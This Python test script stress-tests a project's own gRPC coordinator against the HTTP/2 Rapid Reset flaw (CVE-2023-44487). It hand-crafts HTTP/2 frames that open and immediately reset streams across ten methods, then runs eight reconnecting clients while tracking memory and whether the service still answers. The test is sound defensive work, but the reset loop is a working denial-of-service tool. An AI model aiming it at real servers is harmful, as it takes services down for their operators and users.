"""Calls that are begun and reset as fast as a client can (CVE-2023-44487).

Shown for each method, on one connection: how many resets it took until the connection was closed,
and the coordinator's memory. Then eight clients connect again and again, and it must serve when
they have gone.
usage: resets.py [RESETS [SECONDS]]
"""

from __future__ import annotations

import multiprocessing
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path
from typing import List, Tuple

from served import Service, eventually

CLIENTS = 8
MEMORY_MAX_MB = 1500
# With a message, and before one is sent.
METHODS: List[Tuple[str, bool]] = [
    ("/autograph.v1.Optimizer/ListJobs", False),
    ("/autograph.v1.Optimizer/ListJobs", True),
    ("/autograph.v1.Optimizer/GetJob", True),
    ("/autograph.v1.Blobs/Upload", True),
    ("/autograph.v1.Workers/Synchronize", False),
    ("/grpc.health.v1.Health/Check", False),
    ("/grpc.health.v1.Health/Check", True),
    ("/grpc.health.v1.Health/Watch", True),
    ("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", False),
    ("/no.such/Method", False),
]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Returns a frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    """Returns a header without compression, as HPACK has it."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


# The begin of a connection, with empty settings.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")


def request(method: str, *more: bytes) -> bytes:
    """Returns the header block of a call, with more headers."""
    block = b"\x83\x86" + header(b":path", method.encode()) + header(b":authority", b"x")
    return block + header(b"content-type", b"application/grpc") + header(b"te", b"trailers") + b"".join(more)


def reset_calls(address: str, method: str, with_message: bool, resets: int, end: float) -> int:
    """Begins and resets calls on one connection until it is closed; returns how many."""
    host, port = address.rsplit(":", 1)
    block = request(method)
    sent = 0
    try:
        with socket.create_connection((host, int(port)), timeout=5) as one:
            one.sendall(PREFACE)
            while sent < resets and time.monotonic() < end:
                out = b""
                for _ in range(100):
                    stream = 2 * sent + 1
                    out += frame(1, 4, stream, block)
                    if with_message:
                        out += frame(0, 1, stream, bytes(5))
                    out += frame(3, 0, stream, struct.pack(">I", 8))
                    sent += 1
                one.sendall(out)
    except OSError:
        pass
    return sent


def again_and_again(address: str, resets: int, end: float) -> None:
    """Runs as a process: connects again whenever its connection was closed."""
    while time.monotonic() < end:
        reset_calls(address, "/autograph.v1.Optimizer/ListJobs", True, resets, end)
        time.sleep(0.1)


def memory_mb(pid: int, field: str) -> float:
    """Returns VmRSS or VmHWM of a process."""
    for line in Path(f"/proc/{pid}/status").read_text(encoding="utf-8").splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) / 1024
    return 0.0


def answers(service: Service) -> bool:
    """Tells whether the coordinator answers a new client."""
    try:
        return service.at("workers", "list") is not None
    except subprocess.CalledProcessError:
        return False


def main() -> int:
    """Runs all of it."""
    resets = int(sys.argv[1]) if len(sys.argv) > 1 else 240_000
    seconds = float(sys.argv[2]) if len(sys.argv) > 2 else 20
    service = Service()
    assert service.coordinator is not None
    pid = service.coordinator.pid
    good = True
    for method, with_message in METHODS:
        sent = reset_calls(service.address, method, with_message, resets, time.monotonic() + 60)
        time.sleep(1)
        serves = answers(service)
        good = good and serves and sent < resets
        print(
            f"{method}{' with a message' if with_message else ''}: closed after {sent} of {resets}; "
            f"{memory_mb(pid, 'VmRSS'):.0f} MB, it {'serves' if serves else 'DOES NOT SERVE'}"
        )
    print(f"one connection at a time: {memory_mb(pid, 'VmHWM'):.0f} MB at most")
    end = time.monotonic() + seconds
    clients = [
        multiprocessing.Process(target=again_and_again, args=(service.address, resets, end))
        for _ in range(CLIENTS)
    ]
    for client in clients:
        client.start()
    for client in clients:
        client.join()
    begin = time.monotonic()
    serves = eventually(lambda: answers(service), 60)
    most = memory_mb(pid, "VmHWM")
    print(
        f"{CLIENTS} clients for {seconds:.0f} s: {most:.0f} MB at most; "
        f"it {'serves' if serves else 'DOES NOT SERVE'} {time.monotonic() - begin:.1f} s after them"
    )
    service.close()
    return 0 if good and serves and most < MEMORY_MAX_MB else 1


if __name__ == "__main__":
    sys.exit(main())
